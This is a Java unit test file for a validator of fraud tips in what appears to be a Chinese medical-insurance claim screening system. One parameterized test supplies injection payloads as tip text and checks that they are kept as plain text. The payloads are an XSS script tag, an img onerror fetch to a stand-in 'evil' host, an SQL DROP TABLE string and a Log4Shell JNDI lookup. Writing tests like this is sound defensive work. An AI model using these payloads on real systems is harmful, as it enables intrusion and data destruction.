package org.claimscreener.engine.tip;

import java.time.Duration;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Optional;

import org.claimscreener.wire.record.SubjectKind;
import org.claimscreener.wire.record.TipChannel;
import org.claimscreener.wire.record.TipCommandKind;
import org.claimscreener.wire.record.TipDismissal;
import org.claimscreener.wire.record.TipRefusal;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class TipCheckTest {
    private static final String LEAD = "血液透析每周记账三次,实际只做两次";

    @Test
    void takesATipWithAndWithoutReporter() {
        assertThat(problem(Tips.tip("tip-1"))).isEmpty();
        assertThat(problem(Tips.tip("tip-1", Tips.NOW, null))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert('x')</script> 医院虚记透析费用",
                "<img src=x onerror=fetch('//evil')>虚记费用若干",
                "'; DROP TABLE tips; -- 医院虚记费用",
                "${jndi:ldap://evil/a} 医院虚记费用",
                "第一行\n第二行\t有制表符的线索"
            })
    void aScriptIsTextLikeAnyOther(String lead) {
        Tip tip = withLead(lead);

        assertThat(problem(tip)).isEmpty();
        assertThat(tip.lead()).isEqualTo(lead);
    }

    @ParameterizedTest
    @ValueSource(ints = {0x00, 0x07, 0x0D, 0x1B, 0x7F, 0x85, 0x202E, 0x2066, 0xD800, 0xDC00})
    void charactersThatHideOrTurnTextAreRefused(int character) {
        assertThat(problem(withLead(LEAD + (char) character + "。")))
                .hasValueSatisfying(ruling -> assertThat(ruling.detail()).startsWith("lead has a control character"));
    }

    @Test
    void aLeadIsNeitherEmptyNorEndless() {
        assertThat(problem(withLead("有问题"))).isPresent();
        assertThat(problem(withLead(" ".repeat(50)))).isPresent();
        assertThat(problem(withLead("漏".repeat(TipLimits.MAX_LEAD_LENGTH)))).isEmpty();
        assertThat(problem(withLead("漏".repeat(TipLimits.MAX_LEAD_LENGTH + 1)))).isPresent();
    }

    @ParameterizedTest
    @CsvSource({
        "INSTITUTION, H340102, no fixmedins_code",
        "DEPARTMENT, H34010200001, a department's code",
        "PATIENT, 张三, visible ASCII"
    })
    void theTargetMustBeClear(SubjectKind kind, String id, String words) {
        Tip tip = new Tip(
                "tip-1", "340102", kind, id, LEAD, TipChannel.LETTER, List.of(), Tips.NOW, "clerk-1", null, null);

        assertThat(problem(tip))
                .hasValueSatisfying(ruling -> assertThat(ruling.detail())
                        .startsWith("target_id ")
                        .contains(words)
                        .contains("医保办发〔2022〕22号"));
    }

    @ParameterizedTest
    @CsvSource({"tip 1, 340102, clerk-1, tip_id", "tip-1, 3401, clerk-1, area", "tip-1, 340102, 李四, entered_by"})
    void idsAreReadable(String id, String area, String clerk, String field) {
        Tip tip = new Tip(
                id,
                area,
                SubjectKind.INSTITUTION,
                Tips.INSTITUTION,
                LEAD,
                TipChannel.VISIT,
                List.of(),
                Tips.NOW,
                clerk,
                null,
                null);

        assertThat(problem(tip)).hasValueSatisfying(ruling -> {
            assertThat(ruling.reason()).isEqualTo(TipRefusal.UNREADABLE);
            assertThat(ruling.detail()).startsWith(field);
        });
    }

    @Test
    void evidenceIsBoundedAsThatOfHoldsIs() {
        Tip tip = Tips.tip("tip-1", Tips.NOW, null, LEAD, Collections.nCopies(6, Tips.evidence()));

        assertThat(problem(tip))
                .hasValueSatisfying(ruling -> assertThat(ruling.detail()).startsWith("evidence: attachments are 6"));
    }

    @Test
    void pseudonymAndSealComeTogether() {
        assertThat(problem(withReporter("a".repeat(64), null))).isPresent();
        assertThat(problem(withReporter(null, "AAAA"))).isPresent();
        assertThat(problem(withReporter("A".repeat(64), "AAAA"))).isPresent();
        assertThat(problem(withReporter("a".repeat(64), "周某 138"))).isPresent();
        assertThat(problem(withReporter("a".repeat(64), "A".repeat(1_001)))).isPresent();
        assertThat(problem(withReporter("a".repeat(64), "A".repeat(760)))).isEmpty();
    }

    @Test
    void theReceiptIsNeitherAheadNorLongAgo() {
        assertThat(problem(received(Tips.NOW.plus(TipLimits.MAX_AHEAD)))).isEmpty();
        assertThat(problem(received(Tips.NOW.plus(TipLimits.MAX_AHEAD).plusMillis(1))))
                .map(TipRuling::reason)
                .contains(TipRefusal.OUT_OF_TIME);
        assertThat(problem(received(Tips.NOW.minus(Duration.ofDays(30))))).isEmpty();
        assertThat(problem(received(Tips.NOW.minus(Duration.ofDays(30)).minusMillis(1))))
                .map(TipRuling::reason)
                .contains(TipRefusal.OUT_OF_TIME);
        assertThat(problem(received(Instant.EPOCH))).map(TipRuling::reason).contains(TipRefusal.UNREADABLE);
    }

    @Test
    void aCommandHasWhatItsKindNeedsAndNothingElse() {
        assertThat(TipCheck.firstProblem(Tips.takeUp("tip-1"))).isEmpty();
        assertThat(TipCheck.firstProblem(Tips.dismiss("tip-1"))).isEmpty();
        assertThat(TipCheck.firstProblem(Tips.sameFacts("tip-1", "tip-2"))).isEmpty();
        for (TipCommandKind kind : TipCommandKind.values()) {
            TipCommand bare = new TipCommand("c-1", "tip-1", kind, "officer-1", "a", null, null, null, Tips.NOW);
            TipCommand full = new TipCommand(
                    "c-1",
                    "tip-1",
                    kind,
                    "officer-1",
                    "a",
                    TipConditions.MET,
                    TipDismissal.WITHDRAWN,
                    "tip-2",
                    Tips.NOW);
            boolean needsSomething = kind == TipCommandKind.TAKE_UP
                    || kind == TipCommandKind.DISMISS
                    || kind == TipCommandKind.OTHER
                    || TipCheck.needsOther(kind);
            assertThat(TipCheck.firstProblem(bare).isPresent()).as("%s", kind).isEqualTo(needsSomething);
            assertThat(TipCheck.firstProblem(full)).as("%s", kind).isPresent();
        }
    }

    @ParameterizedTest
    @CsvSource({"'', tip-1, officer-1, a", "c-1, '', officer-1, a", "c-1, tip-1, 王五, a", "c-1, tip-1, officer-1, ' '"})
    void aCommandIsReadable(String id, String tipId, String actor, String reason) {
        TipCommand command =
                new TipCommand(id, tipId, TipCommandKind.EXTEND, actor, reason, null, null, null, Tips.NOW);

        assertThat(TipCheck.firstProblem(command)).map(TipRuling::reason).contains(TipRefusal.UNREADABLE);
    }

    private static Optional<TipRuling> problem(Tip tip) {
        return TipCheck.firstProblem(tip, Tips.NOW);
    }

    private static Tip withLead(String lead) {
        return Tips.tip("tip-1", Tips.NOW, null, lead, List.of(Tips.evidence()));
    }

    private static Tip received(Instant at) {
        return Tips.tip("tip-1", at, null);
    }

    private static Tip withReporter(@Nullable String pseudonym, @Nullable String seal) {
        return new Tip(
                "tip-1",
                "340102",
                SubjectKind.INSTITUTION,
                Tips.INSTITUTION,
                LEAD,
                TipChannel.HOTLINE,
                List.of(),
                Tips.NOW,
                "clerk-1",
                pseudonym,
                seal);
    }
}
